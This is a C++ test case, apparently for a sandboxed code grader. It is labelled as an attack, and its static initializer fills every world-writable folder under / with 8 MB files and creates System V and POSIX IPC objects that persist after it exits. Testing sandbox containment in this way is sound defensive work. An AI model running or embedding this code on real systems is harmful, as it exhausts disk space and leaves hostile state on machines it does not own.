// attack: fills every world-writable folder and makes System V and POSIX IPC objects
// base: skeleton
// needs: sandbox
// expect-link: 0
// expect-runtime: 0
#include <fcntl.h>
#include <mqueue.h>
#include <sys/ipc.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <string>
#include <vector>

namespace {

namespace fs = std::filesystem;

// World-writable folders, found as the grader finds them: three levels below /.
void find_writable(const fs::path& dir, int depth, std::vector<fs::path>& out) {
  if (depth > 3) return;
  std::error_code ec;
  for (const auto& entry : fs::directory_iterator(dir, ec)) {
    const auto name = entry.path().filename();
    if (depth == 1 && (name == "proc" || name == "sys")) continue;
    if (!entry.is_directory(ec) || entry.is_symlink(ec)) continue;
    struct stat st {};
    if (::stat(entry.path().c_str(), &st) == 0 && (st.st_mode & S_IWOTH) != 0)
      out.push_back(entry.path());
    find_writable(entry.path(), depth + 1, out);
  }
}

void fill(const fs::path& file) {
  const int fd = ::open(file.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd < 0) return;
  const std::string block(1 << 20, 'x');
  for (int i = 0; i < 8; ++i) {
    if (::write(fd, block.data(), block.size()) < 0) break;
  }
  ::close(fd);
}

const bool left = [] {
  std::vector<fs::path> writable;
  find_writable("/", 1, writable);
  for (const auto& dir : writable) fill(dir / ("hostile-" + std::to_string(::getpid())));
  const key_t key = 0x486f5374;  // "HoSt"
  if (const int id = ::shmget(key, 8 << 20, IPC_CREAT | 0666); id >= 0) {
    if (void* memory = ::shmat(id, nullptr, 0); memory != reinterpret_cast<void*>(-1)) {
      static_cast<char*>(memory)[0] = 1;
      ::shmdt(memory);
    }
  }
  ::msgget(key, IPC_CREAT | 0666);
  ::semget(key, 4, IPC_CREAT | 0666);
  mq_attr attributes{};
  attributes.mq_maxmsg = 4;
  attributes.mq_msgsize = 64;
  ::mq_open("/hostile-queue", O_CREAT | O_RDWR, 0666, &attributes);
  return true;
}();

}  // namespace
